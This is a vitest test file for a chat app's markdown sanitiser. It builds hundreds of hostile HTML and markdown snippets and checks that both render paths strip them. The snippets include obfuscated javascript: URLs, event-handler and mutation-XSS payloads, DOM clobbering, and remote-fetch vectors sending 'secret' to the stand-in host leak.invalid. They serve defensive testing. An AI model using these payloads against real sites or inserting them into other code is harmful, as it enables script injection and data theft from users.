// The sanitiser corpus (issue 11): hundreds of hostile markdown and HTML
// snippets — navigation, remote fetch, script, event handlers, dangerous
// URLs and their obfuscations, DOM clobbering, mutation-XSS classics —
// built from vectors × the markdown places they can hide in, rendered
// through both markdown paths, and checked on the DOM the window would
// build from the output.

import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { renderChatNodes } from '../components/chat/markdown';
import { renderMarkdown } from '../components/inspector/markdown';
import golden from './testdata/hostile-remote.json';
import { fragmentHTML } from './sanitize';

const PATHS: Array<[string, (md: string) => string]> = [
  // The chat places the sanitised nodes; serialised here, and parsed again
  // below, they are checked as the stricter round trip.
  ['chat', (md) => fragmentHTML(renderChatNodes(md, 'Copy code'))],
  ['inspector', renderMarkdown],
];

const LEAK = 'https://leak.invalid/leak?d=secret';
const PWN = 'window.__pwned=1';

// ---- vectors ----------------------------------------------------------------

/** Ways to write "javascript:" (and other script URLs) that browsers still run. */
const SCRIPT_URLS = [
  `javascript:${PWN}`,
  `JaVaScRiPt:${PWN}`,
  ` javascript:${PWN}`,
  `\tjavascript:${PWN}`,
  `java\tscript:${PWN}`,
  `java\nscript:${PWN}`,
  `java&#x09;script:${PWN}`,
  `java&#10;script:${PWN}`,
  `&#106;avascript:${PWN}`,
  `&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;${PWN}`,
  `&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058${PWN}`,
  `javascript&colon;${PWN}`,
  `&#14;javascript:${PWN}`,
  `\u0001javascript:${PWN}`,
  `vbscript:msgbox(1)`,
  `VBScript:msgbox(1)`,
  `data:text/html,<script>${PWN}</script>`,
  `data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+`,
  `DATA:text/html,<script>${PWN}</script>`,
  `data:image/svg+xml,<svg onload="${PWN}">`,
  `file:///etc/passwd`,
  `//evil.example/x`,
  `/relative/path`,
];

const HREF_VECTORS = SCRIPT_URLS.flatMap((u, i) => [
  { name: `a-href-${i}`, html: `<a href="${u}">click</a>` },
  { name: `md-link-${i}`, html: `[click](${u.replace(/[ \t\n]/g, '')})` },
]).concat([
  { name: 'md-link-angle', html: `[click](<javascript:${PWN}>)` },
  { name: 'md-autolink-js', html: `<javascript:${PWN}>` },
  { name: 'md-ref-link', html: `[click][r]\n\n[r]: javascript:${PWN}` },
  { name: 'md-link-title', html: `[click](https://ok.example/ "a\\" onmouseover=\\"${PWN}")` },
]);

const NAVIGATION = [
  { name: 'math-href', html: `<math href="${LEAK}">CLICK</math>` },
  { name: 'math-mtext-href', html: `<math><mtext href="${LEAK}">fake key form</mtext></math>` },
  { name: 'math-mi-href', html: `<math><mi xlink:href="${LEAK}">x</mi></math>` },
  { name: 'math-maction', html: `<math><maction actiontype="statusline#${LEAK}" xlink:href="javascript:${PWN}">CLICK</maction></math>` },
  { name: 'math-mrow-href-js', html: `<math><mrow href="javascript:${PWN}">x</mrow></math>` },
  { name: 'svg-a-href', html: `<svg><a href="${LEAK}"><text x="0" y="15">click</text></a></svg>` },
  { name: 'svg-a-xlink', html: `<svg xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="${LEAK}"><rect width="9" height="9"/></a></svg>` },
  { name: 'svg-a-js', html: `<svg><a href="javascript:${PWN}"><circle r="9"/></a></svg>` },
  { name: 'area-map', html: `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" usemap="#m"><map name="m"><area shape="rect" coords="0,0,9,9" href="${LEAK}"></map>` },
  { name: 'area-js', html: `<map name="m"><area href="javascript:${PWN}"></map>` },
  { name: 'form-action', html: `<form action="${LEAK}" method="post"><input name="key" placeholder="Re-enter your API key"><button>Save</button></form>` },
  { name: 'form-js', html: `<form action="javascript:${PWN}"><input type="submit"></form>` },
  { name: 'button-formaction', html: `<button form="f" formaction="${LEAK}">go</button>` },
  { name: 'input-formaction', html: `<input type="submit" formaction="javascript:${PWN}">` },
  { name: 'meta-refresh', html: `<meta http-equiv="refresh" content="0;url=${LEAK}">` },
  { name: 'meta-refresh-js', html: `<meta http-equiv="refresh" content="0;url=javascript:${PWN}">` },
  { name: 'base-href', html: `<base href="${LEAK}/"><a href="x">relative</a>` },
  { name: 'base-target', html: `<base target="_top" href="//evil.example/">` },
  { name: 'iframe-srcdoc', html: `<iframe srcdoc="<script>parent.${PWN}</script>"></iframe>` },
  { name: 'iframe-js', html: `<iframe src="javascript:parent.${PWN}"></iframe>` },
  { name: 'object-js', html: `<object data="javascript:${PWN}"></object>` },
  { name: 'embed-js', html: `<embed src="javascript:${PWN}">` },
  { name: 'a-target', html: `<a href="https://ok.example/" target="_top">top</a>` },
  { name: 'link-import', html: `<link rel="import" href="${LEAK}">` },
  { name: 'portal', html: `<portal src="${LEAK}"></portal>` },
  { name: 'xlink-on-html', html: `<span xlink:href="${LEAK}" xmlns:xlink="http://www.w3.org/1999/xlink">x</span>` },
  { name: 'href-on-div', html: `<div href="${LEAK}">x</div>` },
];

const SCRIPTS = [
  { name: 'script', html: `<script>${PWN}</script>` },
  { name: 'script-src', html: `<script src="${LEAK}"></script>` },
  { name: 'img-onerror', html: `<img src=x onerror="${PWN}">` },
  { name: 'img-onerror-noquote', html: `<img src=x onerror=${PWN}>` },
  { name: 'img-onload-data', html: `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="${PWN}">` },
  { name: 'svg-onload', html: `<svg onload="${PWN}"></svg>` },
  { name: 'svg-script', html: `<svg><script>${PWN}</script></svg>` },
  { name: 'body-onload', html: `<body onload="${PWN}">` },
  { name: 'details-ontoggle', html: `<details open ontoggle="${PWN}"><summary>s</summary>x</details>` },
  { name: 'input-onfocus', html: `<input autofocus onfocus="${PWN}">` },
  { name: 'div-onmouseover', html: `<div onmouseover="${PWN}">hover</div>` },
  { name: 'a-onclick', html: `<a href="https://ok.example/" onclick="${PWN}">x</a>` },
  { name: 'marquee', html: `<marquee onstart="${PWN}">m</marquee>` },
  { name: 'video-onerror', html: `<video><source onerror="${PWN}"></video>` },
  { name: 'select-autofocus', html: `<select autofocus onfocus="${PWN}"><option>x</option></select>` },
  { name: 'textarea-onfocus', html: `<textarea autofocus onfocus="${PWN}"></textarea>` },
  { name: 'keygen', html: `<keygen autofocus onfocus="${PWN}">` },
  { name: 'uppercase-handler', html: `<IMG SRC=x ONERROR="${PWN}">` },
  { name: 'slash-handler', html: `<img/src=x/onerror=${PWN}>` },
  { name: 'handler-entity', html: `<img src=x onerror="&#119;indow.__pwned=1">` },
  { name: 'animation', html: `<style>@keyframes k{}</style><b style="animation-name:k" onanimationstart="${PWN}">x</b>` },
  { name: 'style-expression', html: `<div style="width:expression(${PWN})">x</div>` },
  { name: 'css-behavior', html: `<div style="behavior:url(${LEAK})">x</div>` },
  { name: 'template', html: `<template><img src=x onerror="${PWN}"></template>` },
  { name: 'custom-element', html: `<x-foo onclick="${PWN}" is="x">x</x-foo>` },
  { name: 'set-attribute-event', html: `<svg><set attributeName="onmouseover" to="${PWN}"/></svg>` },
  { name: 'svg-animate-href', html: `<svg><a><animate attributeName="href" values="javascript:${PWN}"/><text y="9">x</text></a></svg>` },
];

const CLOBBERING = [
  { name: 'img-name', html: `<img name="getElementById" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">` },
  { name: 'form-id', html: `<form id="location"><input name="href"></form>` },
  { name: 'a-id', html: `<a id="defaultView" href="https://ok.example/">x</a>` },
  { name: 'a-name-cookie', html: `<a name="cookie">x</a>` },
  { name: 'div-id-body', html: `<div id="body">x</div>` },
  { name: 'input-attributes', html: `<form><input name="attributes"><input name="nodeName"></form>` },
  { name: 'object-name', html: `<object name="__pwned"></object>` },
  { name: 'embed-name', html: `<embed name="documentElement">` },
];

const MXSS = [
  { name: 'noscript', html: `<noscript><p title="</noscript><img src=x onerror=${PWN}>"></noscript>` },
  { name: 'svg-style', html: `<svg></p><style><a id="</style><img src=1 onerror=${PWN}>">` },
  { name: 'svg-style-2', html: `<svg><style><img src=x onerror="${PWN}"></style></svg>` },
  { name: 'style', html: `<style><img src=x onerror="${PWN}"></style>` },
  { name: 'math-mglyph-textarea', html: `<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=${PWN} src=1>">` },
  { name: 'form-math-mglyph', html: `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${PWN}>` },
  { name: 'math-table-mglyph', html: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=${PWN}&gt;">` },
  { name: 'math-mtext-mglyph-style', html: `<math><mtext><mglyph><style><img src=x onerror="${PWN}"></style></mglyph></mtext></math>` },
  { name: 'xmp', html: `<xmp><img src=x onerror="${PWN}"></xmp>` },
  { name: 'textarea', html: `<textarea><img src=x onerror="${PWN}"></textarea>` },
  { name: 'title', html: `<title><img src=x onerror="${PWN}"></title>` },
  { name: 'comment', html: `<!--><img src=x onerror="${PWN}">-->` },
  { name: 'comment-2', html: `<!-- --!><img src=x onerror="${PWN}">-->` },
  { name: 'cdata', html: `<![CDATA[><img src=x onerror="${PWN}">]]>` },
  { name: 'svg-cdata', html: `<svg><![CDATA[><image xlink:href="]]><img src=xx:x onerror=${PWN}//"></svg>` },
  { name: 'noembed', html: `<noembed><img title="</noembed><img src=x onerror=${PWN}>"></noembed>` },
  { name: 'noframes', html: `<noframes><img title="</noframes><img src=x onerror=${PWN}>"></noframes>` },
  { name: 'plaintext', html: `<plaintext><img src=x onerror="${PWN}">` },
  { name: 'iframe-content', html: `<iframe><img title="</iframe><img src=x onerror=${PWN}>"></iframe>` },
  { name: 'select-template', html: `<select><template><style><img src=x onerror="${PWN}"></style></template></select>` },
  { name: 'svg-foreignobject', html: `<svg><foreignObject><img src=x onerror="${PWN}"></foreignObject></svg>` },
  { name: 'math-annotation-xml', html: `<math><annotation-xml encoding="text/html"><img src=x onerror="${PWN}"></annotation-xml></math>` },
  { name: 'svg-desc', html: `<svg><desc><img src=x onerror="${PWN}"></desc></svg>` },
  { name: 'table-form-nesting', html: `<table><form><tr><td><img src=x onerror="${PWN}"></td></tr></form></table>` },
  { name: 'attr-self-close', html: `<a title="/><img src=x onerror=${PWN}>">x</a>` },
  { name: 'null-byte', html: `<img src=x o\u0000nerror="${PWN}">` },
  { name: 'backtick-attr', html: '<img src=`x` onerror=`' + PWN + '`>' },
  { name: 'nested-quote', html: `<img alt="x" ' onerror='${PWN}' src=x>` },
];

/** Remote fetch vectors: the hostile server's (golden file) and more, each pointing at LEAK. */
const REMOTE = [
  { name: 'md-image', html: `![alt](${LEAK})` },
  { name: 'md-image-protocol-relative', html: `![alt](//leak.invalid/x.png)` },
  { name: 'img-protocol-relative', html: `<img src="//leak.invalid/x.png">` },
  { name: 'img-relative', html: `<img src="/wails/ipc.js">` },
  { name: 'img-whitespace', html: `<img src="  ${LEAK}  ">` },
  { name: 'img-upper', html: `<IMG SRC="HTTPS://LEAK.INVALID/X">` },
  { name: 'img-entity', html: `<img src="&#104;ttps://leak.invalid/x">` },
  { name: 'img-newline', html: `<img src="ht\ntps://leak.invalid/x">` },
  { name: 'img-ipv6', html: `<img src="http://[::1]:9/leak?d=secret">` },
  { name: 'img-data-svg-with-remote', html: `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='${LEAK}'/></svg>">` },
  { name: 'a-img-remote', html: `<a href="https://ok.example/"><img src="${LEAK}"></a>` },
  { name: 'css-url-style-attr', html: `<p style="background:url(${LEAK})">p</p>` },
  { name: 'css-image-set', html: `<p style="background-image:image-set('${LEAK}' 1x)">p</p>` },
  { name: 'css-font-face', html: `<style>@font-face{font-family:x;src:url(${LEAK})}</style>` },
  { name: 'svg-style-url', html: `<svg><rect style="fill:url(${LEAK}#g)"/></svg>` },
  { name: 'table-background', html: `<table background="${LEAK}"><tr><td>x</td></tr></table>` },
  { name: 'td-background', html: `<table><tr><td background="${LEAK}">x</td></tr></table>` },
  { name: 'a-ping', html: `<a href="https://ok.example/" ping="${LEAK}">x</a>` },
  { name: 'q-cite', html: `<blockquote cite="${LEAK}">q</blockquote>` },
  { name: 'img-longdesc', html: `<img longdesc="${LEAK}" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">` },
  { name: 'html-manifest', html: `<html manifest="${LEAK}">` },
  { name: 'applet', html: `<applet codebase="${LEAK}" code="x"></applet>` },
  { name: 'object-codebase', html: `<object codebase="${LEAK}" classid="x"></object>` },
  { name: 'math-mglyph-src', html: `<math><mglyph src="${LEAK}"></mglyph></math>` },
  { name: 'svg-feimage', html: `<svg><filter><feImage xlink:href="${LEAK}"/></filter></svg>` },
  { name: 'svg-use-external', html: `<svg><use href="${LEAK}#x"/></svg>` },
  { name: 'video-poster', html: `<video poster="${LEAK}" controls></video>` },
  { name: 'audio-src', html: `<audio src="${LEAK}" autoplay></audio>` },
  { name: 'source-srcset', html: `<picture><source srcset="${LEAK}"><img alt="p"></picture>` },
  { name: 'track', html: `<video><track src="${LEAK}" default></video>` },
  { name: 'input-image', html: `<input type="image" src="${LEAK}">` },
  { name: 'link-preload', html: `<link rel="preload" as="image" href="${LEAK}">` },
  { name: 'link-dns', html: `<link rel="dns-prefetch" href="//leak.invalid">` },
  { name: 'embed', html: `<embed src="${LEAK}">` },
  { name: 'frame', html: `<frameset><frame src="${LEAK}"></frameset>` },
  ...golden.vectors.map((v) => ({
    name: `hostile-${v}`,
    // One vector's markup, cut out of the hostile server's HTML by its name.
    html: golden.html.split('\n').find((l) => l.includes(`v=${v}`)) ?? golden.markdown.split('<!-- ').find((b) => b.startsWith(`${v} -->`))!.slice(v.length + 5),
  })),
];

const VECTORS = [...HREF_VECTORS, ...NAVIGATION, ...SCRIPTS, ...CLOBBERING, ...MXSS, ...REMOTE];

/** Places in markdown a vector can hide in. Multi-line vectors go only where a block may. */
const WRAPPERS: Array<{ name: string; wrap: (v: string) => string; inline?: boolean }> = [
  { name: 'alone', wrap: (v) => v },
  { name: 'paragraph', wrap: (v) => `Before ${v} after.`, inline: true },
  { name: 'list', wrap: (v) => `- first\n- ${v}\n- last`, inline: true },
  { name: 'task list', wrap: (v) => `- [x] ${v}`, inline: true },
  { name: 'table', wrap: (v) => `| a | b |\n| :- | -: |\n| ${v.replace(/\|/g, '\\|')} | x |`, inline: true },
  { name: 'link text', wrap: (v) => `[${v}](https://ok.example/)`, inline: true },
  { name: 'code span', wrap: (v) => `\`${v.replace(/`/g, '')}\``, inline: true },
  { name: 'blockquote', wrap: (v) => `> ${v}`, inline: true },
  { name: 'heading', wrap: (v) => `## ${v}`, inline: true },
  { name: 'html block', wrap: (v) => `<div>\n${v}\n</div>` },
  { name: 'details', wrap: (v) => `<details><summary>more</summary>\n\n${v}\n\n</details>` },
];

/**
 * snippets puts vector number i alone and in two more places, chosen in
 * turn so that every place meets every kind of vector across the corpus
 * (all places for every vector would be thousands of renders: jsdom's
 * DOMPurify takes ~10 ms each).
 */
function snippets(html: string, i: number): Array<[string, string]> {
  const usable = WRAPPERS.slice(1).filter((w) => !(html.includes('\n') && w.inline));
  const picked = new Set([WRAPPERS[0], usable[i % usable.length], usable[(i * 7 + 3) % usable.length]]);
  return [...picked].map((w) => [w.name, w.wrap(html)]);
}

// ---- checks -----------------------------------------------------------------

/** Elements content may end up as. */
const CONTENT_TAGS = new Set(
  'p h1 h2 h3 h4 h5 h6 em strong del code pre blockquote hr br ul ol li input table thead tbody tr th td a img span b i s u ins mark small sub sup kbd abbr div dl dt dd details summary caption'.split(' '),
);
/** Attributes a browser fetches or navigates with. */
const FETCHED = new Set(['src', 'srcset', 'poster', 'data', 'background', 'style', 'action', 'formaction', 'lowsrc', 'dynsrc', 'ping', 'codebase', 'manifest', 'longdesc', 'cite', 'icon', 'archive', 'classid', 'usemap']);
const HTML_NS = 'http://www.w3.org/1999/xhtml';

/** ours reports whether el is something the app added after sanitising. */
function ours(el: Element): boolean {
  if (el.closest('button.code-copy')) return true; // the chat copy button and its icon
  return el.matches('div.code-block, div.code-head, span.code-lang, span.remote-image');
}

/** problems lists what is wrong with rendered HTML, as the window would parse it. */
function problems(html: string): string[] {
  const out: string[] = [];
  const root = document.createElement('div');
  root.innerHTML = html;
  document.body.append(root);
  try {
    for (const el of root.querySelectorAll('*')) {
      const tag = el.localName;
      if (!ours(el)) {
        if (el.namespaceURI !== HTML_NS) out.push(`<${tag}> in namespace ${el.namespaceURI}`);
        if (!CONTENT_TAGS.has(tag)) out.push(`<${tag}> is not on the allow-list`);
      }
      if (tag === 'input' && !(el.getAttribute('type') === 'checkbox' && el.hasAttribute('disabled'))) out.push('an input that is not a disabled checkbox');
      for (const a of el.attributes) {
        const name = a.name.toLowerCase();
        if (name.startsWith('on')) out.push(`<${tag} ${name}>`);
        if (a.localName === 'href') {
          if (tag !== 'a' || a.namespaceURI) out.push(`${a.name} on <${tag}>`);
          let proto = '';
          try {
            proto = new URL(a.value).protocol;
          } catch {
            // unparsable
          }
          if (!['http:', 'https:', 'mailto:'].includes(proto)) out.push(`href ${JSON.stringify(a.value)} is not http(s) or mailto`);
        }
        if (FETCHED.has(a.localName) && !(a.localName === 'src' && /^data:image\//i.test(a.value))) {
          out.push(`<${tag} ${a.name}=${JSON.stringify(a.value.slice(0, 60))}>`);
        }
        if (name === 'id' || name === 'name') out.push(`<${tag} ${name}> (clobbering)`);
        if (name.startsWith('data-') && !(ours(el) || (tag === 'pre' && name === 'data-lang'))) out.push(`<${tag} ${name}> from content`);
        if (name.startsWith('aria-') && !ours(el)) out.push(`<${tag} ${name}> from content`);
        if (name === 'target' || name === 'form') out.push(`<${tag} ${name}>`);
        if (/^(xmlns|xlink)/.test(name)) out.push(`<${tag} ${name}>`);
      }
      if (tag === 'a' && el.hasAttribute('href') && el.getAttribute('rel') !== 'noreferrer noopener') out.push('a link without rel="noreferrer noopener"');
    }
    // A handler that survived would run on these.
    for (const el of root.querySelectorAll('*')) {
      for (const type of ['error', 'load', 'focus', 'toggle']) {
        el.dispatchEvent(new Event(type));
      }
    }
    if ((window as { __pwned?: unknown }).__pwned) out.push('the canary was set: content ran script');
    // Remote URLs stay only on placeholders, and as link targets (which
    // open in the browser on a click, not fetched).
    for (const el of root.querySelectorAll('*')) {
      for (const a of el.attributes) {
        if (!a.value.includes('leak.invalid')) continue;
        if (el.matches('span.remote-image') && a.name === 'data-remote-src') continue;
        if (el.matches('span.remote-image') && a.name === 'data-remote-host') continue;
        if (tag(el) === 'a' && a.name === 'href') continue;
        if (['title', 'alt'].includes(a.name) || (el.matches('span.remote-image') && a.name === 'data-remote-alt')) continue;
        out.push(`remote URL kept in <${tag(el)} ${a.name}>`);
      }
    }
  } finally {
    root.remove();
  }
  return out;
}

const tag = (el: Element) => el.localName;

beforeEach(() => {
  delete (window as { __pwned?: unknown }).__pwned;
});
afterEach(() => {
  delete (window as { __pwned?: unknown }).__pwned;
});

describe.each(PATHS)('the %s markdown path', (_path, render) => {
  it.each(VECTORS.map((v, i) => [v.name, v.html, i] as const))('holds against %s', (_name, html, i) => {
    const failures: string[] = [];
    for (const [where, md] of snippets(html, i)) {
      const p = problems(render(md));
      if (p.length) failures.push(`${where}: ${p.join('; ')}`);
    }
    expect(failures).toEqual([]);
  }, 30_000);

  it('holds against the hostile server’s whole remote documents, and every remote image is a placeholder', () => {
    for (const doc of [golden.markdown, golden.html]) {
      const html = render(doc);
      expect(problems(html)).toEqual([]);
      const div = document.createElement('div');
      div.innerHTML = html;
      const hosts = [...div.querySelectorAll<HTMLElement>('span.remote-image')].map((p) => p.dataset.remoteHost);
      expect(hosts.length).toBeGreaterThan(0);
      expect(new Set(hosts)).toEqual(new Set(['leak.invalid']));
    }
    // The markdown images and the <img src> ones are the placeholders.
    const div = document.createElement('div');
    div.innerHTML = render(golden.markdown);
    const srcs = [...div.querySelectorAll<HTMLElement>('span.remote-image')].map((p) => new URL(p.dataset.remoteSrc!).searchParams.get('v'));
    for (const v of ['md-image', 'md-image-title', 'md-image-ref', 'md-image-in-link', 'img-src', 'img-src-lazy', 'image-tag']) {
      expect(srcs).toContain(v);
    }
  }, 60_000);

  it('keeps what markdown means: headings, emphasis, lists, task boxes, aligned tables, code, quotes, links, inline images', () => {
    const md = [
      '# Title',
      '',
      'Some **bold**, *em*, ~~gone~~, `code`, a [link](https://ok.example/ "t"), <mailto:me@ok.example> and <sub>2</sub>.',
      '',
      '3. three',
      '4. four',
      '',
      '- [x] done',
      '- [ ] open',
      '',
      '| l | c | r |',
      '| :- | :-: | -: |',
      '| 1 | 2 | 3 |',
      '',
      '> quoted',
      '',
      '```python',
      'def f(): return 1',
      '```',
      '',
      '![dot](data:image/gif;base64,R0lGODlhAQABAAAAACw=)',
      '',
      '<details open><summary>More</summary><kbd>Ctrl</kbd></details>',
    ].join('\n');
    const div = document.createElement('div');
    div.innerHTML = render(md);
    expect(div.querySelector('h1')).toHaveTextContent('Title');
    expect(div.querySelector('strong')).toHaveTextContent('bold');
    expect(div.querySelector('del')).toHaveTextContent('gone');
    expect(div.querySelector('ol')).toHaveAttribute('start', '3');
    const boxes = div.querySelectorAll('input');
    expect([...boxes].map((b) => [b.type, b.disabled, b.checked])).toEqual([
      ['checkbox', true, true],
      ['checkbox', true, false],
    ]);
    expect([...div.querySelectorAll('td')].map((td) => td.getAttribute('align'))).toEqual(['left', 'center', 'right']);
    expect(div.querySelector('blockquote')).toHaveTextContent('quoted');
    const links = [...div.querySelectorAll('a')];
    expect(links.map((a) => [a.getAttribute('href'), a.getAttribute('rel')])).toEqual([
      ['https://ok.example/', 'noreferrer noopener'],
      ['mailto:me@ok.example', 'noreferrer noopener'],
    ]);
    expect(links[0]).toHaveAttribute('title', 't');
    expect(div.querySelector('img')).toHaveAttribute('src', 'data:image/gif;base64,R0lGODlhAQABAAAAACw=');
    expect(div.querySelector('img')).toHaveAttribute('alt', 'dot');
    expect(div.querySelector('details')).toHaveAttribute('open');
    expect(div.querySelector('kbd')).toHaveTextContent('Ctrl');
    expect(div.querySelector('sub')).toHaveTextContent('2');
    expect(div.querySelector('pre code')).toHaveTextContent('def f(): return 1');
    expect(div.querySelector('span.remote-image')).toBeNull();
  });

  it('turns a remote image into a placeholder carrying its URL, host and alt text — and content cannot forge one', () => {
    const div = document.createElement('div');
    div.innerHTML = render(
      `![A chart](https://Images.Example.COM/c.png?d=1 "Sales")\n\n<span class="remote-image" data-remote-src="https://forged.example/x">forged</span> <img src="http://[::1]:8/x.png">`,
    );
    const phs = [...div.querySelectorAll<HTMLElement>('span.remote-image')];
    expect(phs.map((p) => [p.dataset.remoteSrc, p.dataset.remoteHost, p.dataset.remoteAlt])).toEqual([
      ['https://images.example.com/c.png?d=1', 'images.example.com', 'A chart'],
      ['http://[::1]:8/x.png', '::1', ''],
    ]);
    expect(div.innerHTML).not.toContain('forged.example');
    expect(div.querySelector('img')).toBeNull();
  });
});

it('the corpus is a few hundred snippets per path', () => {
  const n = VECTORS.reduce((sum, v, i) => sum + snippets(v.html, i).length, 0);
  expect(n).toBeGreaterThan(500);
  // Every place is used.
  const places = new Set(VECTORS.flatMap((v, i) => snippets(v.html, i).map(([w]) => w)));
  expect(places.size).toBe(WRAPPERS.length);
});
